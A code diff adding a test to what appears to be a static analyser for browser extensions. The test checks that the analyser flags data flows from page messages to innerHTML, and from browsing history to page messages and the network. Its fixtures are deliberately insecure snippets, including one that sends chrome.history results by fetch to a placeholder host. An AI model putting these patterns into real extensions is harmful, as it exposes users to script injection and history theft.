@@ -49,6 +49,17 @@ describe('functions', () => {
     expect(await pairs(asks('e.origin !== location.origin', false))).not.toContain('page-message > request-address');
   });
 
+  it('is not led astray by the names that minifiers give', async () => {
+    const shown = (clean: string): Example => sample({ content: `import { sanitize as s, shout as t } from "some-lib"; import u from "sanitize-html"; window.addEventListener("message", (e) => { document.body.innerHTML = ${clean}(e.data); });` });
+    expect(await pairs(shown('s'))).toEqual([]);
+    expect(await pairs(shown('u'))).toEqual([]);
+    expect(await pairs(shown('t'))).toContain('page-message > html');
+    expect(await pairs(sample({
+      content: 'const a = chrome.runtime.connect(); a.onMessage.addListener((b) => window.postMessage(b, "*"));',
+      background: 'chrome.runtime.onConnect.addListener((q) => { chrome.history.search({}, (h) => q.postMessage({ h })); });',
+    }))).toContain('history > page-message');
+  });
+
   it('follows promises that are kept to be resolved later', async () => {
     const later = (what: string): string => `const waiting = new Map(); function ask(id) { return new Promise((resolve) => { waiting.set(id, { resolve }); }); } chrome.history.search({}, (h) => { const { resolve } = waiting.get(1); resolve(${what}); }); ask(1).then((x) => fetch("https://a.example", { body: x }));`;
     expect(await pairs(sample({ background: later('h') }))).toContain('history > network');
